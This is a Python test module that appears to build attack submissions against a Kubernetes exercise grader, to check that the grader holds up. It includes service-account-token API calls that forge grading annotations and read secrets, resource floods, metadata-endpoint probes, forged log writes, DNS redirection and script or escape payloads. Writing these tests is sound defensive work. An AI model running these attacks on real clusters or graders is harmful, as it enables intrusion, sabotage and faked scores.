"""
Answers that pass the fence and run: they imitate, flood, ask the API server, or ask for what the server refuses.

Each has the most points that the unchanged part of the answer may earn; ``honest`` ones must earn all.
"""

# ruff: noqa: E501  (texts of attacks are kept on one line each)
from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterator, Mapping
from dataclasses import replace
from typing import Any

import attack_corpus
import yaml
from attack_corpus import Attack, changed, container, metadata, right, spec, starter
from attack_variants import manifest

from podlab.checks.verdict import Report

PYTHON = "python:3.11-slim"
ELSEWHERE = "podlab-attack-elsewhere"
"""A Pod of this name, in any namespace, proves that an answer reached out of its own."""
_ASK = """\
import json, os, ssl, sys, time, urllib.request
path = "/var/run/secrets/kubernetes.io/serviceaccount/token"
token = open(path).read() if os.path.exists(path) else "none"
search = [line for line in open("/etc/resolv.conf") if line.startswith("search")]
mine = search[0].split()[1].partition(".")[0] if search else "default"
trust = ssl._create_unverified_context()
server = "https://" + os.environ["KUBERNETES_SERVICE_HOST"] + ":" + os.environ["KUBERNETES_SERVICE_PORT"]
for _ in range(20):
    for method, path, kind, body in STEPS:
        head = {"Authorization": "Bearer " + token, "Content-Type": kind}
        data = None if body is None else json.dumps(body).replace("MINE", mine).encode()
        ask = urllib.request.Request(server + path.replace("MINE", mine), data, head, method=method)
        try:
            print(urllib.request.urlopen(ask, context=trust, timeout=2).status, flush=True)
        except Exception as error:
            print(error, flush=True)
    time.sleep(0.4)
"""
_JSON, _MERGE, _STRATEGIC = (
    "application/json",
    "application/merge-patch+json",
    "application/strategic-merge-patch+json",
)
_POD, _PODS = "/api/v1/namespaces/MINE/pods/answer", "/api/v1/namespaces/MINE/pods"
_DONE = {"phase": "Succeeded", "containerStatuses": [{"name": "shop", "restartCount": 0, "ready": False, "image": "x", "imageID": "x",
         "state": {"terminated": {"exitCode": 0, "reason": "Completed"}}}]}  # fmt: skip
_ELSE = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": ELSEWHERE},
         "spec": {"containers": [{"name": "x", "image": "busybox:1.36", "command": ["sleep", "60"]}]}}  # fmt: skip
_EVENT = {"apiVersion": "v1", "kind": "Event", "metadata": {"name": "forged", "namespace": "MINE"}, "reason": "Started", "type": "Normal",
          "message": "Started container shipper", "involvedObject": {"kind": "Pod", "name": "answer", "namespace": "MINE"}}  # fmt: skip
_RESTORER = {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "restorer"}, "spec": {"replicas": 3,
             "selector": {"matchLabels": {"podlab/part": "answer"}}, "template": {"metadata": {"labels": {"podlab/part": "answer"}}, "spec": _ELSE["spec"]}}}  # fmt: skip
Step = tuple[str, str, str, Any]
STEPS: Mapping[str, list[Step]] = {
    "events": [("POST", "/api/v1/namespaces/MINE/events", _JSON, _EVENT)],
    "annotations": [("PATCH", _POD, _MERGE, {"metadata": {"annotations": {"podlab/verdict": "5 of 5"}, "labels": {"podlab/part": "fixture"}}})],
    "status": [("PATCH", f"{_POD}/status", _STRATEGIC, {"status": _DONE})],
    "ephemeral": [("PATCH", f"{_POD}/ephemeralcontainers", _STRATEGIC, {"spec": {"ephemeralContainers": [{"name": "shipper-2", "image": "busybox:1.36"}]}})],
    "elsewhere": [("POST", "/api/v1/namespaces/default/pods", _JSON, _ELSE), ("POST", _PODS, _JSON, _ELSE)],
    "restorer": [("POST", "/apis/apps/v1/namespaces/MINE/deployments", _JSON, _RESTORER)],
    "namespace": [("PATCH", "/api/v1/namespaces/MINE", _MERGE, {"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}}),
                  ("DELETE", "/api/v1/namespaces/MINE", _JSON, None)],
    "lock": [("POST", "/api/v1/namespaces/MINE/configmaps", _JSON, {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "podlab-grading"}})],
    "secrets": [("GET", "/api/v1/secrets", _JSON, None), ("GET", "/api/v1/namespaces/kube-system/secrets", _JSON, None)],
    "others": [("DELETE", "/api/v1/namespaces/default/pods", _JSON, None), ("DELETE", _PODS, _JSON, None)],
    "node": [("GET", "/api/v1/nodes", _JSON, None), ("GET", "/api/v1/nodes/podlab/proxy/pods", _JSON, None)],
}  # fmt: skip


def beside(name: str, image: str, command: list[str], **more: Any) -> Callable[[dict[str, Any]], None]:
    """Add an app container."""
    return lambda body: body["spec"]["containers"].append(
        {"name": name, "image": image, "command": command, **more}
    )


def api() -> Iterator[Attack]:
    """Containers that ask the API server, with a token if their Pod has one, to change what is recorded, or others' work."""
    for name, steps in STEPS.items():
        program = f"STEPS = {steps!r}\n{_ASK}"
        yield Attack(
            "api",
            name,
            "e14",
            changed(starter("e14"), beside("asker", PYTHON, ["python3", "-c", program])),
            1,
            False,
        )


def floods() -> Iterator[Attack]:
    """More than a node has to give; each ends by itself, so that a grader without a defence is seen, not lost."""
    programs = {
        "memory": (PYTHON, ["python3", "-c", "kept = [bytes(10**7) + b'x' * 10**7 for _ in range(150)]"]),
        "disk": ("busybox:1.36", ["sh", "-c", "dd if=/dev/zero of=/logs/x bs=1M count=1200; sleep 5"]),
        "processes": ("busybox:1.36", ["sh", "-c", "n=0; while [ $n -lt 3000 ]; do sleep 20 & n=$((n+1)); done; wait"]),
        "files": ("busybox:1.36", ["sh", "-c", "n=0; while [ $n -lt 20000 ]; do : >/logs/$n; n=$((n+1)); done"]),
        "long-lines": (PYTHON, ["python3", "-c", "for _ in range(200): print('x' * 10**6)"]),
        "connections": (PYTHON, ["python3", "-c", "import os, socket\nkept = []\nfor _ in range(2000):\n    s = socket.socket(); s.settimeout(1); kept.append(s)\n"
                                 "    try: s.connect((os.environ['KUBERNETES_SERVICE_HOST'], 443))\n    except OSError: pass"]),
    }  # fmt: skip
    for name, (image, command) in programs.items():
        extra = {"volumeMounts": [{"name": "logs", "mountPath": "/logs"}]} if "/logs" in command[-1] else {}
        yield Attack(
            "flood", name, "e14", changed(starter("e14"), beside("flood", image, command, **extra)), 1, False
        )


def forbidden() -> Iterator[Attack]:
    """Right answers with a field that Pod Security forbids: the fence has no rule, and the server refuses them."""
    good = right("e14")
    contexts = {
        "unconfined": {"seccompProfile": {"type": "Unconfined"}}, "proc-mount": {"procMount": "Unmasked"},
        "selinux": {"seLinuxOptions": {"type": "spc_t"}}, "host-process": {"windowsOptions": {"hostProcess": True}},
        "apparmor": {"appArmorProfile": {"type": "Unconfined"}},
    }  # fmt: skip
    for name, context in contexts.items():
        yield Attack(
            "forbidden", name, "e14", changed(good, container("shipper", securityContext=context)), 0, False
        )
    own = {"host": "169.254.169.254", "port": 80}
    for name, fields in {
        "probe-host": {"readinessProbe": {"httpGet": own}}, "probe-host-tcp": {"livenessProbe": {"tcpSocket": own}},
        "hook-host": {"lifecycle": {"postStart": {"httpGet": own}}},
    }.items():  # fmt: skip
        yield Attack("forbidden", name, "e14", changed(good, container("shop", **fields)), 0, False)
    sysctls = {"sysctls": [{"name": "kernel.msgmax", "value": "1"}]}
    yield Attack("forbidden", "sysctl", "e14", changed(good, spec(securityContext=sysctls)), 0, False)


def never_run() -> Iterator[Attack]:
    """Pods that no node takes, or that wait for what never comes: the verdict is theirs, and is made in time."""
    needed = {"matchExpressions": [{"key": "nowhere", "operator": "Exists"}]}
    affinity = {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [needed]}}
    for name, fields in {
        "gate": {"schedulingGates": [{"name": "example.org/never"}]}, "selector": {"nodeSelector": {"no": "where"}},
        "affinity": {"affinity": {"nodeAffinity": affinity}}, "readiness-gate": {"readinessGates": [{"conditionType": "example.org/never"}]},
        "claim": {"resourceClaims": [{"name": "gpu", "resourceClaimName": "nobody"}]}, "deadline": {"activeDeadlineSeconds": 1},
    }.items():  # fmt: skip
        yield Attack("never run", name, "e14", changed(starter("e14"), spec(**fields)), 1, False)
    for name, fields in {
        "processors": {"resources": {"requests": {"cpu": "1000"}}}, "memory": {"resources": {"requests": {"memory": "1000Gi"}}},
        "secret": {"envFrom": [{"secretRef": {"name": "nobody"}}]}, "subpath": {"env": [{"name": "UP", "value": ".."}],
        "volumeMounts": [{"name": "logs", "mountPath": "/logs", "subPathExpr": "$(UP)/$(UP)"}]},
    }.items():  # fmt: skip
        yield Attack("never run", name, "e14", changed(starter("e14"), container("shop", **fields)), 1, False)
    taken = changed(starter("e06"), lambda b: (metadata(name="db")(b), spec(hostname="db")(b)))
    yield Attack("never run", "name-of-the-database", "e06", taken, 0, False)


def odd_values() -> Iterator[Attack]:
    """Values that YAML has and JSON has not, and fields that no version of Kubernetes knows."""
    good = right("e14")
    for name, line in {
        "long-number": f"activeDeadlineSeconds: {'9' * 20_000}", "other-case": "HostNetwork: true", "equals": "=: x",
        "sexagesimal": f"activeDeadlineSeconds: 1{':1' * 15_000}", "negative": "securityContext: {runAsUser: -1}",
    }.items():  # fmt: skip
        yield Attack("odd values", name, "e14", good.replace("spec:", f"spec:\n  {line}", 1), 0, False)


def forged_from_inside() -> Iterator[Attack]:
    """Commands beside a locked program, in its own container or in its processes, that write into its log."""
    said = '{"role": "shipper", "event": "signal", "signal": "SIGTERM"}'
    write = {"exec": {"command": ["sh", "-c", f"echo '{said}' > /proc/1/fd/1"]}}
    for name, fields in {
        "hook": {"lifecycle": {"postStart": write}}, "probe": {"startupProbe": {**write, "periodSeconds": 1}},
    }.items():  # fmt: skip
        yield Attack(
            "forging", name, "e14", changed(starter("e14"), container("shipper", **fields)), 1, False
        )
    everywhere = f"while true; do for fd in /proc/[0-9]*/fd/1; do echo '{said}' > $fd; done; sleep 1; done"
    beside_all = changed(starter("e14"), lambda b: (
        b["spec"].update(shareProcessNamespace=True), beside("forger", "busybox:1.36", ["sh", "-c", everywhere])(b)))  # fmt: skip
    yield Attack("forging", "shared-processes", "e14", beside_all, 1, False)


def redirections() -> Iterator[Attack]:
    """Names and processes that lead the play to another target."""
    serve = {
        "name": "open",
        "image": "busybox:1.36",
        "command": ["sh", "-c", "while true; do nc -l -p 5432; done"],
        "restartPolicy": "Always",
    }
    aliases = {"hostAliases": [{"ip": "127.0.0.1", "hostnames": ["db"]}], "initContainers": [serve]}
    yield Attack("redirection", "host-alias", "e06", changed(starter("e06"), spec(**aliases)), 0, False)
    names = {"dnsPolicy": "None", "dnsConfig": {"nameservers": ["127.0.0.1"]}, "initContainers": [serve]}
    yield Attack("redirection", "own-dns", "e06", changed(starter("e06"), spec(**names)), 0, False)
    shared = changed(starter("e14"), lambda b: (b["spec"].update(shareProcessNamespace=True), beside(
        "killer", "busybox:1.36", ["sh", "-c", "while true; do pkill -9 podlab-app; sleep 1; done"])(b)))  # fmt: skip
    yield Attack("redirection", "kills-beside", "e14", shared, 1, False)


def scripts() -> Iterator[Attack]:
    """Active content in lines of logs and termination messages."""
    text = '<script>alert(1)</script>\x1b]0;owned\x07\x1b[2J{"event": "received", "nonce": "</script>"}'
    program = f"for _ in range(50): print({text!r}, flush=True)\nopen('/dev/termination-log', 'w').write({text!r})\nraise SystemExit(3)"
    yield Attack(
        "script",
        "logs",
        "e14",
        changed(starter("e14"), beside("talker", PYTHON, ["python3", "-c", program])),
        1,
        False,
    )


def honest() -> Iterator[Attack]:
    """Right answers as somebody else would write them, noisy ones too."""
    noisy = changed(right("e14"), lambda b: (
        b["metadata"].update(labels={"app": "shop", "score": "0"}, annotations={"note": "podlab: 0 of 5?"}),
        b["spec"].update(shareProcessNamespace=True)))  # fmt: skip
    waits = {"name": "slow", "image": "busybox:1.36", "command": ["sleep", "22"]}
    late = {"exec": {"command": ["true"]}, "initialDelaySeconds": 22, "periodSeconds": 1}
    for name, text in {
        "slow-init": changed(right("e14"), lambda b: b["spec"]["initContainers"].insert(0, waits)),
        "slow-probe": changed(right("e14"), container("shipper", startupProbe=late)),
        # podlab-app's interpreter may lie in a home that is closed to this user
        "user-1000": changed(right("e14"), spec(securityContext={"runAsUser": 1000})),
        "as-json": json.dumps(yaml.safe_load(right("e14"))),
        "noisy": noisy,
        # what some attacks do, in a form that is right
        "chosen-node": changed(
            right("e14"),
            spec(nodeSelector={"kubernetes.io/os": "linux"}, tolerations=[{"operator": "Exists"}]),
        ),
        "memory-volume": changed(
            right("e14"),
            lambda b: b["spec"]["volumes"][0].update(emptyDir={"medium": "Memory", "sizeLimit": "16Mi"}),
        ),
        "requests": changed(
            right("e14"), container("shop", resources={"requests": {"cpu": "10m", "memory": "16Mi"}})
        ),
        "written-by-a-hook": changed(
            right("e14"),
            container(
                "shop",
                lifecycle={"postStart": {"exec": {"command": ["sh", "-c", "echo hello > /proc/1/fd/1"]}}},
            ),
        ),
        "odd-annotations": right("e14").replace(
            "metadata:", "metadata:\n  annotations: {day: 2020-01-01, data: !!binary aGVsbG8=}", 1
        ),
        "plain": right("e14"),
    }.items():
        yield Attack("honest", name, "e14", text, 5, False)


FAMILIES = (
    attack_corpus.imitations,
    attack_corpus.floods,
    api,
    floods,
    forbidden,
    never_run,
    odd_values,
    forged_from_inside,
    redirections,
    scripts,
    honest,
)


def attacks() -> list[Attack]:
    """Return every answer that runs."""
    return [each for family in FAMILIES for each in family() if not each.refused]


def wrong(each: Attack, report: Report) -> str:
    """Return what is wrong with a report; empty if nothing is."""
    if report.state not in ("answered", "refused"):
        return f"{report.state}: {report}"
    least = each.most if each.family == "honest" else 0
    return (
        ""
        if least <= report.score <= each.most
        else f"{float(report.score)} points, {least} to {each.most} expected: {report}"
    )


def variants(count: int, seed: int) -> Iterator[Attack]:
    """Yield *count* variants of the answers that run; the same number of each family, as far as that goes."""
    chance = random.Random(seed)
    by_family = {
        family: [one for one in attacks() if one.family == family]
        for family in {one.family for one in attacks()}
    }
    families = sorted(by_family)
    for number in range(count):
        each = chance.choice(by_family[families[number % len(families)]])
        yield replace(each, name=f"{each.name}-{number}", text=manifest(each.text, chance))
